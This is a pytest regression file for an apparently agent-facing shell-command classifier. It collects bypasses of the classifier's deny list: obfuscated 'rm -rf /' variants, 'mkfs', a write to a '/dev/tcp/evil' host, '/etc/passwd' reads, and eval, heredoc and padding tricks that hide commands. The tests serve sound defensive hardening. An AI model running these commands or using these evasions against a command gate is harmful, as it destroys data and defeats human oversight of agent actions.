"""Finding H1 of issue 19: the command policy (now tools/commands/) was a regex/shlex classifier that an
attacker got past under the `cautious` preset, its deny list included. Each case here is one of those
bypasses, or a close variant of it: a denied command must classify `deny`, anything else the classifier
cannot vouch for `ask`, and never `allow`. The commands the shipped campaigns run, and ordinary shell
around them, must stay allowed."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from policies.load import load_policy
from tests import realsys
from tests.conftest import journal_events
from tools.commands import Verdict, classify

ROOT = Path(__file__).resolve().parents[2]
OUTSIDE = "writes outside the working directory"


def cautious(command: str) -> Verdict:
    """The verdict the product reaches under the preset (agent/exec/planning.py's command_class)."""
    rules = load_policy("cautious").model.commands
    return classify(command, allow=rules.allow, ask=rules.ask, deny=rules.deny)


def bash(command: str, cwd: Path) -> None:
    """Run `command` as signoff would (`bash -c` in a working directory), to prove a case is an attack."""
    subprocess.run(["bash", "-c", command], cwd=cwd, capture_output=True, timeout=10, check=False, input=b"")


def ran_in_bash(command: str, workdir: Path) -> bool:
    """Whether bash itself runs the hidden `touch M` in `command`: proof that a case is a real attack
    and not one the classifier merely dislikes."""
    bash(command, workdir)
    return (workdir / "M").exists()


# ------------------------------------------------------------------ a paren inside a substitution


def test_a_quoted_paren_inside_a_substitution_does_not_hide_a_denied_rm(tmp_path: Path) -> None:
    victim = tmp_path / "DIR"
    for command in [
        f"echo $(rm -rf {victim} '(')",
        f'echo "$(rm -rf {victim} ")")"',
        f"echo $(echo $(rm -rf {victim} '(('))",
        "echo $(rm -rf ~/x '(')",
        f"cat <(rm -rf {victim} ')')",
    ]:
        v = cautious(command)
        assert v.klass == "deny", (command, v)
        assert "rm -rf" in v.part


# ------------------------------------------------------------------ redirections


@pytest.mark.parametrize(
    "command",
    [
        "echo owned>/tmp/FILE",
        "echo x>../x",
        "echo x>>../x",
        "echo x&>~/x",
        "echo x&>>/etc/x",
        "echo x 2>/abs",
        "echo x>|/etc/x",
        "echo x >&/etc/x",
        "echo x > a/../../x",
        "echo x > $HOME/x",
        'echo x > "$(echo /etc/x)"',
        "echo x > .?/x",
        "echo x > ~root/x",
        "echo x >/dev/tcp/evil/80",
        "{ echo x; } >/etc/x",
        "echo x | cat >/etc/x",
        "echo $(echo x >/etc/x)",
    ],
)
def test_a_redirection_outside_the_working_directory_asks_however_it_is_spelled(command: str) -> None:
    v = cautious(command)
    assert v.klass == "ask", (command, v)
    assert OUTSIDE in v.reason, (command, v)


def test_a_read_write_redirection_asks() -> None:
    for command in ["cat <>/etc/passwd", "cat 3<>/etc/passwd", "exec 3<>/tmp/x"]:
        assert cautious(command).klass == "ask", command


@pytest.mark.parametrize(
    "command",
    [
        "echo ok >/dev/null",
        "echo ok>out.txt",
        "echo hi > out.txt 2>/dev/null",
        "echo hi >&2",
        "echo hi 2>&1 >>log/run.txt",
        "echo hi >/dev/stderr",
        "echo hi >/dev/fd/2",
        "echo hi > a/../b",
        "cat < /etc/hostname",
    ],
)
def test_writes_inside_the_working_directory_stay_allowed(command: str) -> None:
    assert cautious(command).klass == "allow", (command, cautious(command))


# ------------------------------------------------------------------ code run without a literal $(


EVALUATING = [
    "echo ${x:=$'\\x24(touch M)'} ${x@P}",
    "test -v $'a[\\x24(touch M)]'",
    "test -v 'a[$(touch M)]'",
    "[ -v 'a[$(touch M)]' ]",
    "[[ -v 'a[$(touch M)]' ]]",
    "x='a[$(touch M)]'; echo ${!x}",
    "x='a[$(touch M)]'; [[ x -eq 1 ]]",
    "x='a[$(touch M)]'; echo $(( x ))",
    'eval "$(echo touch M)"',
    "eval 'touch M'",
    "eval touch M",
    "bash -c 'touch M'",
    "sh -c 'touch M'",
    "echo touch M > s.sh; source ./s.sh",
    "echo touch M > s.sh; . ./s.sh",
    "exec touch M",
    "x=touch; $x M",
    'x=touch; "$x" M',
    "env touch M",
    "echo M | xargs touch",
    "find . -maxdepth 0 -exec touch M \\;",
    "cat <<-EOF\n\t$(touch M)\n\tEOF",
    "cat <<EOF\n`touch M`\nEOF",
    "echo `touch M`",
    'echo "$(touch M)"',
    "t() { touch M; }; t",
    "echo ${x:-$(touch M)}",
    "x=a; echo ${x/a/$(touch M)}",
    "x=1 touch M",
    "x='a[$(touch M)]'; (( x ))",
    "printf -v 'a[$(touch M)]' x",
]


@pytest.mark.parametrize("command", EVALUATING)
def test_an_expansion_that_runs_code_is_never_allowed(command: str, tmp_path: Path) -> None:
    assert ran_in_bash(command, tmp_path), f"not an attack: bash did not run the hidden command: {command!r}"
    v = cautious(command)
    assert v.klass in ("ask", "deny"), (command, v)


def test_what_the_classifier_cannot_account_for_is_asked_even_when_everything_is_allowed() -> None:
    anything = {"allow": ["*"], "ask": [], "deny": ["rm -rf /*"]}
    for command in [
        "echo ${x@P}",
        "echo ${!x}",
        "echo ${x:=y}",
        "echo ${a[$(id)]}",
        "test -v $'a[\\x24(id)]'",
        "$cmd arg",
        "echo 'unterminated",
        "echo $(",
        "if true; then echo",
        "(( x ))",
        "echo $((x + 1))",
    ]:
        v = classify(command, **anything)
        assert v.klass == "ask", (command[:80], v)


PADDING = "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n" * 1_000  # 44 KB: a long command is parsed in pieces


@pytest.mark.parametrize(
    "command",
    [
        # a cut inside a quote: in the second piece the real `rm` reads as quoted text
        *(
            PADDING + "echo '" + ("b" * 300 + ";") * 6 + "b" * shift + "' ; rm -rf /tmp/v ; echo 'x'"
            for shift in (0, 97)
        ),
        # a cut inside a here-document whose second piece opens another one around the real `rm`
        PADDING + "cat <<EOF\n" + "line;\n" * 200 + "x <<Z\nEOF\nrm -rf /tmp/v\nZ\n",
        PADDING + "echo " + "a" * 3_000 + "; rm -rf /tmp/v",  # no place to cut
        "echo " + "a" * 1_100_000 + "; rm -rf /tmp/v",  # over 1 MB: not parsed at all
        "echo " + "$(echo " * 45 + "$(rm -rf /tmp/v)" + ")" * 45,  # deeper than the walk goes
    ],
    ids=["cut-in-quote", "cut-in-quote-2", "cut-in-heredoc", "no-cut", "over-1MB", "too-deep"],
)
def test_what_the_classifier_cannot_look_inside_is_refused_not_asked(command: str) -> None:
    """A person at a command gate cannot find a denied command in 44 KB either: what the classifier
    cannot see into is refused, so the deny patterns hold however the text is arranged."""
    v = classify(command, allow=["*"], ask=[], deny=["rm -rf /*"])
    assert v.klass == "deny", (command[-120:], v)
    assert "cannot be checked against the deny patterns" in v.reason or v.pattern == "rm -rf /*"


def test_a_long_command_that_parses_in_pieces_is_still_classified() -> None:
    rules = {"allow": ["echo *"], "ask": [], "deny": ["rm -rf /*"]}
    assert classify(PADDING, **rules).klass == "allow"
    assert classify(PADDING + "rm -rf /tmp/v\n" + PADDING, **rules).pattern == "rm -rf /*"
    assert classify(PADDING + "touch M\n", **rules).klass == "ask"


# ------------------------------------------------------------------ deny on the normalized command


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "rm -r -f /",
        "rm -fr /",
        "rm -f -r /",
        "rm -r / -f",
        "rm -rf -- /",
        "rm -Rf /",
        "rm --recursive --force /",
        "rm -rf --no-preserve-root /",
        "/bin/rm -rf /",
        "'rm' -rf /",
        '"rm" -rf /',
        "\\rm -rf /",
        "r''m -rf /",
        "r\\\nm -rf /",
        "rm '-rf' '/'",
        "rm -rf ~",
        "rm -rf ~/",
        "FOO=1 rm -rf /",
        "command rm -rf /",
        "env -i rm -rf /",
        "sudo rm -rf /",
        "nice -n 5 rm -rf /",
        "timeout 5 rm -rf /",
        "nohup rm -rf / &",
        "time rm -rf /",
        "! rm -rf /",
        "eval rm -rf /",
        "eval 'rm -rf /'",
        "bash -c 'rm -rf /'",
        "sh -ec 'cd / && rm -rf /'",
        "find . -exec rm -rf / \\;",
        "xargs rm -rf / < list",
        "if true; then rm -rf /; fi",
        "for d in a; do rm -rf /; done",
        "f() { rm -rf /; }",
        "echo $(rm -rf / '(')",
        "echo `rm -rf /`",
        "cat <(rm -rf /)",
        "echo ok && rm -rf /* || true",
        "cat <<EOF | sh\nx\nEOF\nrm -rf /",
        "mkfs.ext4 /dev/sda",
        "/sbin/shutdown -h now",
        "'reboot'",
        "git push --force origin main",
    ],
)
def test_a_denied_command_is_denied_however_it_is_spelled(command: str) -> None:
    v = cautious(command)
    assert v.klass == "deny", (command, v)
    assert v.pattern is not None and v.pattern in load_policy("cautious").model.commands.deny


def test_deny_patterns_are_normalized_the_same_way() -> None:
    rules = {"allow": ["*"], "ask": [], "deny": ["rm -rf *"]}
    for command in ["rm -rf x", "rm -fr x", "rm -r -f x", "/usr/bin/rm -f x -r"]:
        assert classify(command, **rules).klass == "deny", command
    for command in ["rm -f x", "rm -r x", "rm x", "echo rm -rf x", "grep 'rm -rf' notes"]:
        assert classify(command, **rules).klass == "allow", command


# ------------------------------------------------------------------ what must stay allowed


BENIGN = [
    "echo hi",
    "echo 'a && b' \"c || d\"",
    "cat README.md | grep -n foo",
    "ls -la && echo done",
    "test -f x || echo missing",
    "grep -n 'a b' file > out.txt",
    "grep -c tp_barrier src/decoder.py",
    "python x/simserve.py bench --concurrency 4",
    "/usr/bin/python3 simserve.py probe ep",
    "nvidia-smi -q",
    'echo "$HOME" ${USER} $1',
    "cat <<EOF\nhello $USER\nEOF",
    "cat <<'EOF'\n$(not run) `nor this`\nEOF",
    "for f in a b; do echo $f; done",
    "if test -f x; then cat x; else echo none; fi",
    "(cat a; cat b) | grep -n x",
    "{ echo a; echo b; } > out.txt",
    "echo a # a comment",
    "cat README#",
    "echo a\\ b",
    "true",
    "echo x | grep -n x >/dev/null 2>&1",
]


@pytest.mark.parametrize("command", BENIGN)
def test_ordinary_shell_stays_allowed(command: str) -> None:
    assert cautious(command).klass == "allow", (command, cautious(command))


def campaign_commands(campaign_yaml: Path, python: str) -> list[str]:
    base = {"workdir": "/tmp/signoff-x/sessions/20260101-000000-abcd/hosts/h1", "python": python, "num_prompts": "40"}
    return realsys.campaign_commands(campaign_yaml, base)


@pytest.mark.parametrize("python", [sys.executable, "python3"])
def test_every_command_of_the_example_campaigns_is_allowed_under_its_policy(python: str) -> None:
    """The demo's campaign under every preset, and each real-system campaign under its own policy
    (tests/integration/test_real_systems.py checks the latter with its own rendering, too)."""
    demo = campaign_commands(ROOT / "examples" / "decode-campaign" / "campaign.yaml", python)
    for preset in ["cautious", "autonomous", "ask-everything"]:
        rules = load_policy(preset).model.commands
        for command in demo:
            v = classify(command, allow=rules.allow, ask=rules.ask, deny=rules.deny)
            assert v.klass == "allow", (preset, command, v)
    for kind in ["redis", "postgres"]:
        rules = load_policy(ROOT / "examples" / kind / "policy.yaml").model.commands
        for command in campaign_commands(ROOT / "examples" / kind / "campaign.yaml", python):
            v = classify(command, allow=rules.allow, ask=rules.ask, deny=rules.deny)
            assert v.klass == "allow", (kind, command, v)


# ------------------------------------------------------------------ end to end: the attack as it ran


def test_a_denied_rm_hidden_in_a_substitution_never_runs_in_a_campaign(cli, variant, tmp_path: Path) -> None:
    """The reproduction as reported: an option whose apply step is `echo $(rm -rf DIR '(')` deleted DIR
    with exit 0 and no gate, since the regex classifier saw only `echo`. Now the step is refused by the
    deny pattern, the option is untested, and DIR is still there."""
    from tests.e2e.test_evidence import ALLOW_ALL, MINI

    victim = tmp_path / "DIR"
    victim.mkdir()
    (victim / "keep").write_text("x")
    command = f"echo $(rm -rf {victim} '(')"
    campaign = variant(MINI.replace('apply: ["touch broken"]', f'apply: ["{command}"]'), name="h1")
    policy = tmp_path / "p.yaml"
    policy.write_text(ALLOW_ALL % '"rm -rf /*"')
    r = cli("run", str(campaign), "--policy", str(policy), "--json")
    assert (victim / "keep").exists(), "the denied rm ran"
    assert r.code == 0, r.stderr
    out = r.json()
    opt = out["options"][0]
    assert opt["outcome"] == "untested", opt
    events = [e for e in journal_events(out["journal"]) if e.get("command") == command]
    assert [e["kind"] for e in events if e["kind"] in ("command.refused", "command.started")] == ["command.refused"]
